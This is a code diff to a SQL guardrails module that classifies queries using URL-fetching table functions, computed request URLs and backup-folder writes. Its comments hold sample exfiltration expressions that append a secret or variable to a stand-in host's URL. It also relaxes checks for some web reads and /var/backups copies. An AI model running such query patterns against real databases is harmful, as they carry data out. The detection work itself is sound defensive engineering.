@@ -14,6 +14,7 @@ from guardrails_core.intent.sql.functions import (
     _check_function,
 )
 from guardrails_core.intent.sql.host_files import HOST_FILE_CLASSES
+from guardrails_core.intent.sql.own_hosts import own_network_url, public_web_url
 from guardrails_core.intent.sql.settings import embed_shell
 from guardrails_core.intent.sql.statement import (
     _function_name,
@@ -83,9 +84,13 @@ def cross_catalog(statement: _Statement) -> None:
         statement.add(I.EXPORT, f"copies rows read in {', '.join(sorted(sources))} into {moved}")
 
 
-# Table functions that read files, URLs or other servers (DuckDB, ClickHouse, Trino, Spark).
-_READING_TABLE_FUNCTIONS = frozenset(
+# Table functions that fetch a web URL (DuckDB's httpfs readers, ClickHouse's url()): a constant
+# URL of the own network or of a public https server is a GET that carries no data out, and
+# reads what it answers. Metadata services, private addresses by number, file:// and URLs with
+# credentials stay host access (own_hosts.py).
+_URL_FETCHING_FUNCTIONS = frozenset(
     {
+        "url",
         "read_csv",
         "read_csv_auto",
         "read_parquet",
@@ -94,12 +99,16 @@ _READING_TABLE_FUNCTIONS = frozenset(
         "read_ndjson",
         "read_text",
         "read_blob",
-        "read_files",
         "parquet_scan",
+    }
+)
+# Table functions that read files, URLs or other servers (DuckDB, ClickHouse, Trino, Spark).
+_READING_TABLE_FUNCTIONS = _URL_FETCHING_FUNCTIONS | frozenset(
+    {
+        "read_files",
         "delta_scan",
         "iceberg_scan",
         "file",
-        "url",
         "s3",
         "s3cluster",
         "gcs",
@@ -129,12 +138,13 @@ def _table_function(statement: _Statement, table: exp.Table, function: exp.Expr)
     if name in _READING_TABLE_FUNCTIONS and _computed_location(function):
         # `read_csv('http://x/?d=' || (SELECT secret ...))`: the request itself carries data out.
         statement.add(I.EXPORT, f"{name}() fetches a location built from query data")
-    if name in _OTHER_SERVER_FUNCTIONS:
+    if name in _OTHER_SERVER_FUNCTIONS and not _fetched_without_data(name, function):
         statement.add(I.HOST_ACCESS, f"{name}() reaches another server or the host's files")
     if name in ("openrowset", "opendatasource", "openquery"):
         statement.add(I.HOST_ACCESS, f"{name.upper()} reaches an external data source")
     if name in ("executable",):
         statement.add(I.HOST_ACCESS, f"{name}() runs a program on the server")
+        statement.add(I.UNKNOWN, f"{name}() runs a script whose code is not visible here")
     _check_function(statement, function)
 
 
@@ -162,6 +172,7 @@ def _read_location(statement: _Statement, name: str, literal: str) -> None:
     if (
         _outside_workspace(literal)
         and not _bucket_endpoint(name, literal)
+        and not _plain_web_read(name, literal)
         and not _own_temp_file(statement, literal)
         and not _local_data_path(statement, literal)
     ):
@@ -185,6 +196,18 @@ _OBJECT_STORAGE_URL = re.compile(
 
 def _bucket_endpoint(name: str, location: str) -> bool:
     return name in _OBJECT_STORAGE_FUNCTIONS and bool(_OBJECT_STORAGE_URL.match(location))
+
+
+def _plain_web_read(name: str, location: str) -> bool:
+    return name in _URL_FETCHING_FUNCTIONS and (
+        own_network_url(location) or public_web_url(location)
+    )
+
+
+def _fetched_without_data(name: str, function: exp.Expr) -> bool:
+    """`url('http://localhost:8123/ping', 'RawBLOB', 'body String')`: one constant URL, read."""
+    first = next(iter(function.iter_expressions()), None)
+    return isinstance(first, exp.Literal) and first.is_string and _plain_web_read(name, first.this)
 
 
 # `file` is not here: ClickHouse reads it from its user_files folder, so a relative name is the
@@ -283,6 +306,26 @@ def _local_data_path(statement: _Statement, location: str) -> bool:
     )
 
 
+# The host's folder for backups: a new copy of the database there stays on its host, readable
+# by the administrators who read the backups.
+_BACKUP_FOLDER = re.compile(r"^/var/backups/[^/]+(?:/[^/]+)*$")
+
+
+def local_copy_file(statement: _Statement, location: str) -> bool:
+    """Where an embedded engine (SQLite) may write a new copy of its database and the copy stays
+    with the data it came from: the working folder, the host's backup folder. Shared mounts and
+    temporary folders, web roots, homes and hidden names do not."""
+    if working_folder_file(statement, location):
+        return True
+    parts = location.split("/")
+    return (
+        statement.dialect_name in EMBEDDED_DIALECTS
+        and bool(_BACKUP_FOLDER.match(location))
+        and ".." not in parts
+        and not any(part.startswith(".") for part in parts if part)
+    )
+
+
 def working_folder_file(statement: _Statement, location: str) -> bool:
     """A file an embedded engine (DuckDB, SQLite) writes by a relative path: it lands in the
     working folder of the process that runs the query, as a shell redirect's file would. A
@@ -296,8 +339,31 @@ def working_folder_file(statement: _Statement, location: str) -> bool:
 
 
 def _computed_location(function: exp.Expr) -> bool:
-    """The first argument is built at run time from something other than literals."""
+    """The first argument is built at run time from query data: a column or a query, or, in a
+    URL (`'https://x/v?q=' || getvariable('tok')`), any value that is not a literal or the
+    clock (a variable, a parameter, a function's result): the request carries it out."""
     first = next(iter(function.iter_expressions()), None)
     if first is None or isinstance(first, exp.Literal):
         return False
-    return any(isinstance(node, exp.Column | exp.Subquery | exp.Select) for node in first.walk())
+    if any(isinstance(node, exp.Column | exp.Subquery | exp.Select) for node in first.walk()):
+        return True
+    web = any(
+        isinstance(node, exp.Literal) and _WEB_LOCATION.match(str(node.this))
+        for node in first.walk()
+    )
+    return web and any(_data_value(node) for node in first.walk())
+
+
+_WEB_LOCATION = re.compile(r"(?i)^\s*(?:https?|ftp|wss?)://")
+_CLOCK = (exp.CurrentDate, exp.CurrentTimestamp, exp.CurrentTime, exp.CurrentDatetime)
+_SPELLING = (exp.Literal, exp.DPipe, exp.Concat, exp.Cast, exp.DataType, exp.Paren, exp.Array)
+
+
+def _data_value(node: exp.Expr) -> bool:
+    """A part of a computed location that is a value from data (a variable, a parameter, a
+    function of them), not its spelling or the clock (`strftime(current_date, '%Y')`)."""
+    if isinstance(node, _SPELLING) or node.find_ancestor(*_CLOCK) is not None:
+        return False
+    if isinstance(node, exp.Func):
+        return node.find(*_CLOCK) is None
+    return isinstance(node, exp.Parameter | exp.Placeholder | exp.SessionParameter)
